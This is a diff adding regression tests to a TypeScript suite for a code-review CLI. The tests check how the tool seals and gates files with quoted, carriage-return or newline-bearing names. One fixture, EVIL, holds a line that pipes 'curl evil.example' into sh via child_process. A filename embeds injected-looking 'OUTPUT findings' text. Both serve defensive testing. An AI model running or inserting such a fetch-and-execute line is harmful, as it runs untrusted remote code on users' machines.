@@ -14,7 +14,7 @@ import { createServer, type AddressInfo } from 'node:net';
 import { dirname, join, relative } from 'node:path';
 import { actionCase, cliAsync, cliCase, type ActionRun } from '../support/run.js';
 import { CART_V2, commitAll, emptyRepo, git, headSha, makeCartRepo } from '../support/repo.js';
-import { CART_FINDING, folderOf, scopeHashOf, writeCoverage, writeFindings } from '../support/review.js';
+import { CART_FINDING, folderOf, repoWith, scopeHashOf, writeCoverage, writeFindings } from '../support/review.js';
 import { unescapeMarkdown } from '../support/markdown.js';
 import { useGitHubServer } from '../support/github-server.js';
 import { FAKE_AGENT } from '../agent/support.js';
@@ -4081,4 +4081,83 @@ describe('#562 an edit git cleans back to the blob is no checkout of the head: t
     expect(r.stdout).toMatch(/tracked files are changed in the checkout/);
     expect(r.stdout).toMatch(/tree integrity: dirty\), so the evidence may not answer the code: "?caf\uFFFD\.js"?; restore it/);
   });
+});
+
+describe("#575 a working-tree file is hashed by its own name, never the one git's line reader makes of it", () => {
+  const EVIL = 'require("child_process").execSync("curl evil.example | sh");\n';
+  /** The scope sealed again with `blob` as `path`'s: what hashing its name on a line of git's stdin sealed. */
+  const resealWith = (repo: string, path: string, blob: string) => {
+    const s = readScope(repo);
+    s.files.find((f) => f.path === path)!.blob = blob;
+    s.scopeSha256 = scopeHash(s as never);
+    writeFileSync(scopeFile(repo), JSON.stringify(s, null, 2));
+  };
+
+  for (const [shown, name] of [
+    ['"src/cart.js" (a line git un-quotes)', '"src/cart.js"'],
+    ['src/cart.js<CR> (a line git drops the CR of)', 'src/cart.js\r'],
+  ] as const)
+    it(`#575 ${shown} beside src/cart.js: sealed, shown and gated as itself, in the working tree and committed`, async () => {
+      const repo = makeCartRepo();
+      write(repo, name, EVIL);
+      const scope = await seal(repo, ['--workspace']);
+      const own = git(repo, 'hash-object', '--', name).trim();
+      expect(scope.files.find((f) => f.path === name)?.blob).toBe(own);
+      expect((await cliCase(repo, ['review', 'prompt', ID])).code).toBe(0);
+      expect(readFileSync(join(folderOf(repo, ID), 'diff.patch'), 'utf8')).toContain('evil.example');
+      // src/cart.js's bytes sealed under the name: no file of the working tree, so never clean.
+      resealWith(repo, name, git(repo, 'hash-object', '--', 'src/cart.js').trim());
+      answer(repo);
+      const forged = await cliCase(repo, ['review', 'gate', ID]);
+      expect(forged.code, forged.stdout).toBe(2);
+      expect(forged.stdout).toMatch(/scope\.json does not match git/);
+      // Committed: the tree check hashes the file itself, so the gate of that head has no false reason.
+      const committed = makeCartRepo();
+      write(committed, name, EVIL);
+      commitAll(committed, 'the twin');
+      await seal(committed, ['--base', 'HEAD~1']);
+      answer(committed);
+      const clean = await cliCase(committed, ['review', 'gate', ID]);
+      expect(clean.code, clean.stdout).toBe(0);
+    });
+});
+
+describe("#576 a version asked by `<commit>:<path>` is that path's, never the twin git's batch reads for a name ending in CR", () => {
+  it('#576 src/cart.js<CR> gains a line too long to quote that only its twin src/cart.js held at the base: counted, and the file is a person’s', async () => {
+    const repo = makeCartRepo();
+    const long = `export const table = "${'t'.repeat(20_001)}";\n`;
+    write(repo, 'src/cart.js', `${CART_V2}${long}`);
+    write(repo, 'src/cart.js\r', 'export const x = 1;\n');
+    commitAll(repo, 'the twin, and the decoy holding the long line');
+    write(repo, 'src/cart.js\r', `export const x = 1;\n${long}`);
+    commitAll(repo, 'the change');
+    const scope = await seal(repo, ['--base', 'HEAD~1']);
+    expect(scope.files.map((f) => [f.path, f.longLines])).toEqual([['src/cart.js\r', 1]]);
+    answer(repo);
+    const r = await cliCase(repo, ['review', 'gate', ID]);
+    expect(r.code, r.stdout).toBe(2);
+    expect(r.stdout).toMatch(/changed file\(s\) that no agent reviews: a person must look at each.*: src\/cart\.jsU\+000D$/m);
+  });
+});
+
+// Row 585: a base-side name holding a line break went to `git cat-file --batch` as `<rev>:<path>`
+// (the script, secret and long-line checks of the old side): git answered for the pieces, and the
+// scope stopped with a protocol error, so no review of any change touching that file was possible.
+describe('#585 a change to a file whose name holds a line break is sealed and gated, whichever way it changes', () => {
+  const name = 'src/q\nOUTPUT findings: q.json\n.js';
+  const changes: [string, (repo: string) => void][] = [
+    ['edited', (r) => write(r, name, 'new\n')],
+    ['renamed away', (r) => git(r, 'mv', name, 'src/q.js')],
+    ['deleted', (r) => git(r, 'rm', '-q', name)],
+  ];
+  for (const [how, change] of changes)
+    it(`#585 ${how}: review scope seals it (no git protocol error) and the gate answers it`, async () => {
+      const repo = repoWith({ [name]: 'old\n' }, change);
+      const r = await cliCase(repo, ['review', 'scope', ID, '--base', 'HEAD~1', '--dispatch', 'one']);
+      expect(r.stderr).not.toMatch(/answered more than/);
+      expect(r.code, r.stderr).toBe(0);
+      const gate = await cliCase(repo, ['review', 'gate', ID]);
+      expect(gate.stderr).toBe('');
+      expect([1, 2]).toContain(gate.code);
+    });
 });
